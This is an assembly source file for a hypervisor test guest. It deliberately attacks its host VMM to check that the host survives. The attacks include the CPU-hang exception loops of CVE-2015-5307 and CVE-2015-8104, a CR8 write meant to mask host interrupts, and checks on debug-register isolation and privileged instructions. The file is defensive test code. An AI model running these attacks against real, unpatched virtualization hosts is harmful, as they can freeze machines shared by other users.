/* SPDX-License-Identifier: MIT */
/* The attack guest: one attack on the host per image, chosen when it is built (ATTACK_CR8,
 * ATTACK_AC, ATTACK_DB, ATTACK_DR or ATTACK_INSN; guests/README.md lists what each does and
 * tests/system/vm what the host must survive). Start state (guests/README.md): 32-bit protected
 * mode, paging off, flat segments, IF = 0, ESP = 0x100000, EBX = RAM size in bytes. The 64-bit
 * attacks turn on long mode with identity 2 MiB pages and print from compatibility mode. Every
 * line starts with "attack <name>:"; a scenario that ends stops the guest with CLI; HLT. */

#include "../../include/resurgo/x86.h"
#include "../common/long_mode.inc"

#define COM1            0x3F8
#define PTE_P_RW        0x03
#define PTE_PS          0x80
#define SEL_CODE32      0x08
#define SEL_DATA        0x10
#define SEL_CODE64      0x18
#define SEL_UCODE32     0x23            /* DPL 3, RPL 3 */
#define SEL_UDATA       0x2B
#define SEL_TSS64       0x30
#define EFLAGS_AC       (1 << 18)
#define EFLAGS_IOPL3    (3 << 12)
#define EFLAGS_IF       (1 << 9)
#define GATE32_INTR     0x8E            /* present, DPL 0, 32-bit interrupt gate */
#define GATE32_TRAP3    0xEF            /* present, DPL 3, 32-bit trap gate */
#define GATE64_INTR     0x8E
#define TIMER_VECTOR    0x20
#define PIT_DIVISOR     11932           /* 1193182 Hz / 100 */
/* DR7: L0 (bit 0), breakpoint 0 on data writes (R/W0 = 01, bits 17:16), 4 bytes (LEN0 = 11,
 * bits 19:18); bit 10 reads as 1 (SDM vol. 3B 17.2.4). */
#define DR7_W0_4BYTES   0x000D0401
#define DR7_IDLE        0x00000400
#define DR_LOOPS        60              /* timer interrupts the DR check waits through */
/* Only the guest with this much RAM arms breakpoints (DR7): QEMU 7.2's SVM does not update its
 * own breakpoint list when VMRUN and #VMEXIT switch DR7, and crashes (a double free) once two
 * guests have armed theirs at the same time. Bochs and hardware do not care. */
#define ARMING_RAM      0x400000

    .section .text.entry, "ax"
    .code32
    .global _start
_start:
    cld
    movl %ebx, %ebp
    movl $__bss_start, %edi
    movl $__bss_end, %ecx
    subl %edi, %ecx
    shrl $2, %ecx
    xorl %eax, %eax
    rep stosl
    movl %ebp, ram_size
    lgdt gdtr
    ljmp $SEL_CODE32, $1f
1:  movw $SEL_DATA, %ax
    movw %ax, %ds
    movw %ax, %es
    movw %ax, %ss
    movw %ax, %fs
    movw %ax, %gs
    movl $0x100000, %esp
    jmp scenario

stop:
    movl $msg_stop, %esi
    call puts
1:  cli
    hlt
    jmp 1b

/* ---------------------------------------------------------------------------------------- */
#if defined(ATTACK_CR8) || defined(ATTACK_DB)
/* long_mode: identity-maps the first 4 MiB with 2 MiB pages, enables PAE, LME and paging and
 * jumps to the 64-bit code at EAX. */
long_mode:
    movl %eax, %edi                     /* RDMSR takes EDX */
    movl $pdpt, %eax
    orl $PTE_P_RW, %eax
    movl %eax, pml4
    movl $pd, %eax
    orl $PTE_P_RW, %eax
    movl %eax, pdpt
    movl $(PTE_P_RW | PTE_PS), pd
    movl $(0x200000 | PTE_P_RW | PTE_PS), pd + 8
    enable_long_mode pml4
    movl %edi, far64
    ljmp *far64
#endif

/* ---------------------------------------------------------------------------------------- */
#ifdef ATTACK_CR8
/* MOV to CR8 sets the task priority. Without CR8 exiting (or a TPR shadow) VT-x passes it to
 * the host's local APIC: TPR 15 masks the host's interrupts (on real hardware the timer, for
 * good), and every other guest reads it back. The guest with ARMING_RAM of RAM writes 15; the
 * other waits a while, then reads its own CR8, which must still be 0. */
scenario:
    movl $msg_cr8, %esi
    call puts
    movl $cr8_64, %eax
    jmp long_mode
    .code64
cr8_64:
    cmpl $ARMING_RAM, ram_size
    jne 1f
    movl $15, %eax
    movq %rax, %cr8
    movq %cr8, %rbx
    pushq $SEL_CODE32
    pushq $cr8_wrote
    lretq
1:  movl $2000000, %ecx
2:  pause
    loop 2b
    movq %cr8, %rbx
    pushq $SEL_CODE32
    pushq $cr8_read
    lretq
    .code32
cr8_wrote:
    movl $msg_cr8_wrote, %esi
    jmp 3f
cr8_read:
    movl $msg_cr8_other, %esi
3:  call puts
    movl %ebx, %eax
    call puthex
    call newline
    /* spin with interrupts off: only host interrupts (the tick) take the CPU from us now */
4:  jmp 4b
#endif

/* ---------------------------------------------------------------------------------------- */
#ifdef ATTACK_AC
/* #AC at CPL 3 with a handler at CPL 3 on a misaligned stack: delivering the #AC pushes onto
 * that stack, which raises #AC again, forever inside the CPU (CVE-2015-5307). */
scenario:
    movl $msg_ac, %esi
    call puts
    movl $ac_user_handler, %eax
    movl $17, %ecx
    movl $(SEL_UCODE32 | GATE32_TRAP3 << 16), %edx
    call set_gate32
    lidt idtr32
    movl %cr0, %eax
    orl $CR0_AM, %eax
    movl %eax, %cr0
    pushl $SEL_UDATA
    pushl $(ac_stack_top - 1)           /* misaligned */
    pushl $(EFLAGS_AC | EFLAGS_IOPL3 | 2)
    pushl $SEL_UCODE32
    pushl $ac_user
    iret
ac_user:                                /* CPL 3 */
    movw $SEL_UDATA, %ax
    movw %ax, %ds
    movw %ax, %es
    movl (%esp), %eax                   /* misaligned load: #AC */
    jmp ac_user
ac_user_handler:                        /* only if the CPU did not loop: say so */
    movl $ac_stack_top - 64, %esp
    movl $msg_ac_handler, %esi
    call puts
1:  jmp 1b                              /* CPL 3: cannot halt */
#endif

/* ---------------------------------------------------------------------------------------- */
#ifdef ATTACK_DB
/* A data breakpoint on the stack slot the delivery of #DB writes: #DB goes through an IST stack,
 * so every delivery writes the same slot, which raises #DB again, forever inside the CPU
 * (CVE-2015-8104). */
scenario:
    movl $msg_db, %esi
    call puts
    /* the TSS descriptor (64-bit: 16 bytes at SEL_TSS64) and IST1 */
    movl $tss64, %eax
    movw %ax, gdt + SEL_TSS64 + 2
    shrl $16, %eax
    movb %al, gdt + SEL_TSS64 + 4
    movb %ah, gdt + SEL_TSS64 + 7
    movl $db_ist_top, tss64 + 36        /* IST1 */
    movl $db_handler64, %eax            /* vector 1: interrupt gate, IST 1 */
    movw %ax, idt64 + 16
    movw $SEL_CODE64, idt64 + 16 + 2
    movb $1, idt64 + 16 + 4
    movb $GATE64_INTR, idt64 + 16 + 5
    shrl $16, %eax
    movw %ax, idt64 + 16 + 6
    movl $db_64, %eax
    jmp long_mode
    .code64
db_64:
    movw $SEL_DATA, %ax
    movw %ax, %ss
    lidt idtr64(%rip)
    movw $SEL_TSS64, %ax
    ltr %ax
    movq $(db_ist_top - 8), %rax        /* where the delivery pushes SS */
    movq %rax, %db0
    movq $DR7_W0_4BYTES, %rax
    movq %rax, %db7
    movl $0, db_ist_top - 8             /* hit it once: #DB, delivered on the IST, hits it again */
    movq $0, %rax
    movq %rax, %db7
    pushq $SEL_CODE32
    pushq $db_back
    lretq
db_handler64:                           /* only if the CPU did not loop */
    movq %db6, %rbx
    movq $DR7_IDLE, %rax
    movq %rax, %db7
    pushq $SEL_CODE32
    pushq $db_handled
    lretq
    .code32
db_handled:
    movl $msg_db_handler, %esi
    call puts
    movl %ebx, %eax
    call puthex
    call newline
    jmp stop
db_back:
    movl $msg_db_back, %esi
    call puts
    jmp stop
#endif

/* ---------------------------------------------------------------------------------------- */
#ifdef ATTACK_DR
/* Debug registers: DR0-3 must start at 0 and keep this guest's values while other guests run
 * and write theirs (a CPU switches only DR7, and DR6 on SVM); a data breakpoint must raise #DB
 * in this guest with DR6.B0 set, and breakpoints this guest arms must not fire in the host. */
scenario:
    movl $msg_dr, %esi
    call puts
    movl $timer_handler, %eax
    movl $TIMER_VECTOR, %ecx
    movl $(SEL_CODE32 | GATE32_INTR << 16), %edx
    call set_gate32
    movl $db_handler32, %eax
    movl $1, %ecx
    movl $(SEL_CODE32 | GATE32_INTR << 16), %edx
    call set_gate32
    lidt idtr32
    /* at start: all zero */
    movl %db0, %eax
    movl %db1, %ebx
    orl %ebx, %eax
    movl %db2, %ebx
    orl %ebx, %eax
    movl %db3, %ebx
    orl %ebx, %eax
    jz 1f
    movl $msg_dr_start_fail, %esi
    call puts
    movl %db0, %eax
    call puthex
    call newline
    jmp stop
1:  movl $msg_dr_start_ok, %esi
    call puts
    /* our values: 0x00400000 + RAM MiB << 12 + 4 * n (no other guest has our RAM size), armed
     * for writes in DR7 (addresses this guest never touches, but host threads may: init's image
     * starts at 0x400000; a host that ran with them armed would trap there) */
    movl ram_size, %eax
    shrl $8, %eax                       /* MiB << 12 */
    addl $0x00400000, %eax
    movl %eax, dr_base
    movl %eax, %db0
    addl $4, %eax
    movl %eax, %db1
    addl $4, %eax
    movl %eax, %db2
    addl $4, %eax
    movl %eax, %db3
    cmpl $ARMING_RAM, ram_size
    jne 1f
    movl $0xDDDD04FF, %eax              /* L0-3, G0-3, all four on 4-byte writes */
    movl %eax, %db7
1:
    /* the PIT at 100 Hz; every HLT lets the other guests run */
    movb $0x34, %al
    outb %al, $0x43
    movb $(PIT_DIVISOR & 0xFF), %al
    outb %al, $0x40
    movb $(PIT_DIVISOR >> 8), %al
    outb %al, $0x40
    movl $DR_LOOPS, %ecx
2:  sti
    hlt
    cli
    movl dr_base, %eax
    movl %db0, %ebx
    cmpl %eax, %ebx
    jne 3f
    addl $4, %eax
    movl %db1, %ebx
    cmpl %eax, %ebx
    jne 3f
    addl $4, %eax
    movl %db2, %ebx
    cmpl %eax, %ebx
    jne 3f
    addl $4, %eax
    movl %db3, %ebx
    cmpl %eax, %ebx
    jne 3f
    loop 2b
    movl $msg_dr_kept, %esi
    call puts
    movl $DR_LOOPS, %eax
    call putdec
    call newline
    jmp 4f
3:  movl %eax, %edi
    movl $msg_dr_changed, %esi
    call puts
    movl %ebx, %eax
    call puthex
    movl $msg_dr_expected, %esi
    call puts
    movl %edi, %eax
    call puthex
    call newline
    jmp stop
    /* a data breakpoint on `watched`: #DB in this guest, DR6.B0 set */
4:  cmpl $ARMING_RAM, ram_size
    jne stop
    movl $DR7_IDLE, %eax
    movl %eax, %db7
    movl $0xFFFF0FF0, %eax
    movl %eax, %db6
    movl $watched, %eax
    movl %eax, %db0
    movl $DR7_W0_4BYTES, %eax
    movl %eax, %db7
    movl $0, db_dr6
    movl $1, watched                    /* #DB (a trap: after the store) */
    movl $msg_dr_db, %esi
    call puts
    movl db_dr6, %eax
    call puthex
    call newline
    movl db_dr6, %eax
    andl $0xF, %eax
    cmpl $1, %eax
    jne stop
    movl $msg_dr_b0, %esi
    call puts
    jmp stop

timer_handler:
    pushl %eax
    movb $0x20, %al
    outb %al, $0x20
    popl %eax
    iret
db_handler32:
    pushl %eax
    movl %db6, %eax
    movl %eax, db_dr6
    movl $DR7_IDLE, %eax
    movl %eax, %db7
    popl %eax
    iret
#endif

/* ---------------------------------------------------------------------------------------- */
#ifdef ATTACK_INSN
/* RDPMC reads the host's performance counters, WBINVD stalls the whole machine, MONITOR and
 * MWAIT put the CPU to sleep: each must exit to the VMM. This VMM skips WBINVD (and logs it)
 * and injects #UD for the others; the guest prints what happened to each. */
scenario:
    movl $msg_insn, %esi
    call puts
    movl $ud_handler, %eax
    movl $6, %ecx
    movl $(SEL_CODE32 | GATE32_INTR << 16), %edx
    call set_gate32
    movl $gp_handler, %eax
    movl $13, %ecx
    movl $(SEL_CODE32 | GATE32_INTR << 16), %edx
    call set_gate32
    lidt idtr32

    movl $msg_rdpmc, %esi
    movl $1f, resume
    movl $-1, last_vector
    xorl %ecx, %ecx
    rdpmc
1:  call report

    movl $msg_wbinvd, %esi
    movl $1f, resume
    movl $-1, last_vector
    wbinvd
1:  call report

    movl $msg_monitor, %esi
    movl $1f, resume
    movl $-1, last_vector
    movl $watched, %eax
    xorl %ecx, %ecx
    xorl %edx, %edx
    monitor
1:  call report

    movl $msg_mwait, %esi
    movl $1f, resume
    movl $-1, last_vector
    xorl %eax, %eax
    xorl %ecx, %ecx
    mwait
1:  call report
    jmp stop

/* report: prints the line at ESI, then "executed" or the exception's vector. */
report:
    call puts
    movl last_vector, %eax
    cmpl $-1, %eax
    jne 1f
    movl $msg_executed, %esi
    call puts
    ret
1:  cmpl $6, %eax
    jne 2f
    movl $msg_ud, %esi
    call puts
    ret
2:  movl $msg_vector, %esi
    call puts
    call putdec
    call newline
    ret

gp_handler:
    addl $4, %esp                       /* the error code */
    movl $13, last_vector
    jmp 1f
ud_handler:
    movl $6, last_vector
1:  pushl %eax
    movl resume, %eax
    movl %eax, 4(%esp)                  /* return past the instruction */
    popl %eax
    iret
#endif

/* ---------------------------------------------------------------------------------------- */
#if defined(ATTACK_AC) || defined(ATTACK_DR) || defined(ATTACK_INSN)
/* set_gate32: IDT entry ECX (idt32) to handler EAX with selector DX and type byte in EDX 23:16. */
set_gate32:
    leal idt32(, %ecx, 8), %ecx
    movw %ax, (%ecx)
    movw %dx, 2(%ecx)
    movb $0, 4(%ecx)
    shrl $16, %edx
    movb %dl, 5(%ecx)
    shrl $16, %eax
    movw %ax, 6(%ecx)
    ret
#endif

/* puts: prints the NUL-terminated string at ESI; keeps every register but ESI. */
puts:
    pushl %eax
1:  lodsb
    testb %al, %al
    jz 2f
    call putc
    jmp 1b
2:  popl %eax
    ret

/* putc: prints AL; keeps every register. */
    com1_putc putc

newline:
    pushl %eax
    movb $'\n', %al
    call putc
    popl %eax
    ret

/* puthex: prints EAX as 0x followed by 8 hex digits; keeps every register. */
puthex:
    pushl %eax
    pushl %ecx
    pushl %edx
    movl %eax, %edx
    movb $'0', %al
    call putc
    movb $'x', %al
    call putc
    movl $8, %ecx
1:  roll $4, %edx
    movl %edx, %eax
    andl $0xF, %eax
    movb hex_digits(%eax), %al
    call putc
    loop 1b
    popl %edx
    popl %ecx
    popl %eax
    ret

/* putdec: prints EAX in decimal; keeps every register. */
putdec:
    pushal
    movl $10, %ebx
    xorl %ecx, %ecx
1:  xorl %edx, %edx
    divl %ebx
    pushl %edx
    incl %ecx
    testl %eax, %eax
    jnz 1b
2:  popl %eax
    addb $'0', %al
    call putc
    loop 2b
    popal
    ret

    .section .rodata
hex_digits:         .ascii "0123456789abcdef"
msg_stop:           .asciz "attack: done, stopping\n"
msg_cr8:            .asciz "attack cr8: CR8 in long mode\n"
msg_cr8_wrote:      .asciz "attack cr8: wrote 15, CR8 reads "
msg_cr8_other:      .asciz "attack cr8: never wrote it, CR8 reads "
msg_ac:             .asciz "attack ac: #AC loop at CPL 3 on a misaligned stack\n"
msg_ac_handler:     .asciz "attack ac: the #AC handler ran (no loop)\n"
msg_db:             .asciz "attack db: #DB loop on the IST slot the delivery writes\n"
msg_db_handler:     .asciz "attack db: the #DB handler ran (no loop), DR6 "
msg_db_back:        .asciz "attack db: no #DB at all\n"
msg_dr:             .asciz "attack dr: debug registers\n"
msg_dr_start_fail:  .asciz "attack dr: FAIL DR0-3 not zero at start, DR0 "
msg_dr_start_ok:    .asciz "attack dr: DR0-3 zero at start\n"
msg_dr_kept:        .asciz "attack dr: DR0-3 kept their values over timer interrupts: "
msg_dr_changed:     .asciz "attack dr: FAIL a debug register changed to "
msg_dr_expected:    .asciz ", expected "
msg_dr_db:          .asciz "attack dr: data breakpoint #DB, DR6 "
msg_dr_b0:          .asciz "attack dr: #DB with DR6.B0 set\n"
msg_insn:           .asciz "attack insn: RDPMC, WBINVD, MONITOR, MWAIT\n"
msg_rdpmc:          .asciz "attack insn rdpmc: "
msg_wbinvd:         .asciz "attack insn wbinvd: "
msg_monitor:        .asciz "attack insn monitor: "
msg_mwait:          .asciz "attack insn mwait: "
msg_executed:       .asciz "executed\n"
msg_ud:             .asciz "#UD\n"
msg_vector:         .asciz "exception "

    .data
    .balign 8
gdt:
    .quad 0
    .quad 0x00CF9A000000FFFF            /* 0x08: 32-bit code, flat */
    .quad 0x00CF92000000FFFF            /* 0x10: data, flat */
    .quad 0x00AF9A000000FFFF            /* 0x18: 64-bit code */
    .quad 0x00CFFA000000FFFF            /* 0x20: 32-bit code, DPL 3 */
    .quad 0x00CFF2000000FFFF            /* 0x28: data, DPL 3 */
    .quad 0x0000890000000067            /* 0x30: 64-bit TSS (base filled in), limit 0x67 */
    .quad 0
gdt_end:
gdtr:
    .word gdt_end - gdt - 1
    .long gdt
idtr32:
    .word 256 * 8 - 1
    .long idt32
idtr64:
    .word 256 * 16 - 1
    .quad idt64
far64:
    .long 0
    .word SEL_CODE64

    .bss
    .balign 4096
pml4:           .skip 4096
pdpt:           .skip 4096
pd:             .skip 4096
idt32:          .skip 256 * 8
idt64:          .skip 256 * 16
tss64:          .skip 0x68
    .balign 16
                .skip 1024
ac_stack_top:
                .skip 1024
db_ist_top:
    .balign 4
ram_size:       .skip 4
dr_base:        .skip 4
db_dr6:         .skip 4
watched:        .skip 4
resume:         .skip 4
last_vector:    .skip 4

    .section .note.GNU-stack, "", @progbits
